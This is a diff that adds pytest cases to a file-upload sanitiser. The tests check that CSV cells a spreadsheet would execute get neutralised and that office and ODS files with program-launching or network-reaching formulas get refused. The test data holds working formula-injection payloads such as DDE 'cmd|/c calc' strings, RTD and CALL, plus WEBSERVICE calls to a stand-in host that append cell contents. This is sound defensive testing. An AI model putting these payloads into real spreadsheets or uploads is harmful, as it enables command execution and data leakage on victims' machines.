@@ -332,7 +332,8 @@ def test_a_table_of_text_has_no_control_characters_but_those_that_cut_it(sign):
     if unicodedata.category(sign) == "Cc" and sign not in "\t\r\n\f":
         assert refusal(content, "a.csv") == "upload_text_unreadable"
     else:
-        assert clean_file(content, "a.csv").content == content
+        kept = f"a,b\n'{sign},c\n".encode() if sign in "=+-@" else content
+        assert clean_file(content, "a.csv").content == kept
 
 
 def test_a_table_as_large_as_an_upload_may_be_is_looked_through_at_once(settings):
@@ -407,3 +408,88 @@ def test_a_plain_name_stays_plain(given):
     plain = plain_name(given)
     assert 0 < len(plain) <= LONGEST_NAME and plain_name(plain) == plain
     assert not set('/\\\r\n\0"<>\u202e') & set(plain)
+
+
+@pytest.mark.parametrize(
+    ("sent", "kept"),
+    [
+        ("=cmd|'/c calc'!A0,1", "'=cmd|'/c calc'!A0,1"),
+        ('a;"=HYPERLINK(""x"")"', 'a;"\'=HYPERLINK(""x"")"'),
+        ("a,@SUM(1)\tb\r\n+a;-b", "a,'@SUM(1)\tb\r\n'+a;'-b"),
+        ('"uno;=1+2|x",a', '"uno;\'=1+2|x",a'),
+        ("-1,2+cmd|'/c calc'!A0", "'-1,2+cmd|'/c calc'!A0"),
+        ("\"-1\n&cmd|'/c calc'!A0\"", "\"'-1\n&cmd|'/c calc'!A0\""),
+        ("\"-1\"&cmd|'/c calc'!A0", "\"'-1\"&cmd|'/c calc'!A0"),
+        ("a,\t=1+1", "a,\t'=1+1"),
+        ("＝1+1", "'＝1+1"),
+        *((same, same) for same in ("-1,5;+2.5;-3", "Lima (Perú),-5", "a=b,c-d,e@f", '"-7",x', '"-1,5";"+2"', "'a'")),
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
+def test_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay(sent, kept, encoding):
+    assert clean_file(sent.encode(encoding), "a.csv").content == kept.encode(encoding)
+
+
+def with_sheet(words: str, name="xl/worksheets/sheet9.xml") -> bytes:
+    return sent_files.office(further={name: f'<a xmlns:x="urn:x">{words}</a>'})
+
+
+@pytest.mark.parametrize(
+    ("formula", "code"),
+    [
+        ("_xlfn.WEBSERVICE(&quot;http://e.example/&quot;&amp;B1)", "upload_reaches_out"),
+        ("1+_xlfn.image(A1)", "upload_reaches_out"),
+        ("WEB&#83;ERVICE (A1)", "upload_reaches_out"),
+        ("'a\"b'!A1&amp;WEBSERVICE(A1)&amp;'a\"b'!A1", "upload_reaches_out"),
+        ("cmd|'/c calc'!A0", "upload_runs_programs"),
+        ("'cmd'|'/c calc'!A0", "upload_runs_programs"),
+        ("RTD(&quot;a.b&quot;,,1)", "upload_runs_programs"),
+        ("CALL(&quot;a&quot;)", "upload_runs_programs"),
+    ],
+)
+def test_a_formula_that_starts_programs_or_reaches_out_is_refused(formula, code):
+    for element in ("f", "x:f", "formula1", "definedName"):
+        assert refusal(with_sheet(f"<{element}>{formula}</{element}>"), "a.docx") == code
+    assert refusal(with_sheet(f"<f>{formula}</f>", "elsewhere/s.xml"), "a.docx") == code
+    quoted = formula.replace('"', "&quot;")
+    for name in ("content.xml", "Object 1/content.xml"):
+        table = f'<a xmlns:t="urn:t"><t:cell t:formula="of:={quoted}"/></a>'
+        assert refusal(sent_files.open_document("ods", further={name: table}), "a.ods") == code
+
+
+def test_what_else_brings_in_from_elsewhere_is_refused():
+    assert refusal(with_sheet('<connection id="1" type="4"><webPr url="u"/></connection>'), "a.docx") == (
+        "upload_reaches_out"
+    )
+    for kind, code in (("connections", "upload_reaches_out"), ("aFChunk", "upload_carries_files")):
+        assert refusal(with_relation(kind, "Internal"), "a.docx") == code
+        relation = RELS.format(kind=kind).replace(' TargetMode="External"', "")
+        assert refusal(sent_files.office(further={"word/_rels/document.xml.rels": relation}), "a.docx") == code
+    assert refusal(with_content('<d:cell-range-source x:href="https://e.example/"/>'), "a.odt") == "upload_reaches_out"
+    assert refusal(with_content("<d:cell d:formula=\"of:=DDE('a';'b';'c')\"/>"), "a.odt") == "upload_runs_programs"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(A1:A9)*-1",
+        "HYPERLINK(&quot;https://e.example/&quot;,&quot;a|b&quot;)",
+        "&quot;image (2)&quot;&amp;A1",
+        "'Norte | Sur'!A1",
+        "Table1[a|b]",
+        "IMAGES(1)+RECALL(2)",
+        "IF(A1=&quot;x&quot;,{1;2},3)",
+    ],
+)
+def test_a_formula_that_computes_is_no_harm(formula):
+    assert clean_file(with_sheet(f"<f>{formula}</f>"), "a.docx").kind.code == "docx"
+    table = '<a xmlns:t="urn:t"><t:cell t:formula="of:=SUM({1;2|3;4};[.A1])"/></a>'
+    assert clean_file(sent_files.open_document("ods", further={"content.xml": table}), "a.ods").kind.code == "ods"
+
+
+def test_a_table_of_numbers_is_looked_through_at_once():
+    """However long its line: each number asks once what comes behind it."""
+    for cell in ("-1,", "-1\n", "-a,"):
+        begun = time.process_time()
+        clean_file(cell.encode() * 300_000, "a.csv")
+        assert time.process_time() - begun < 3
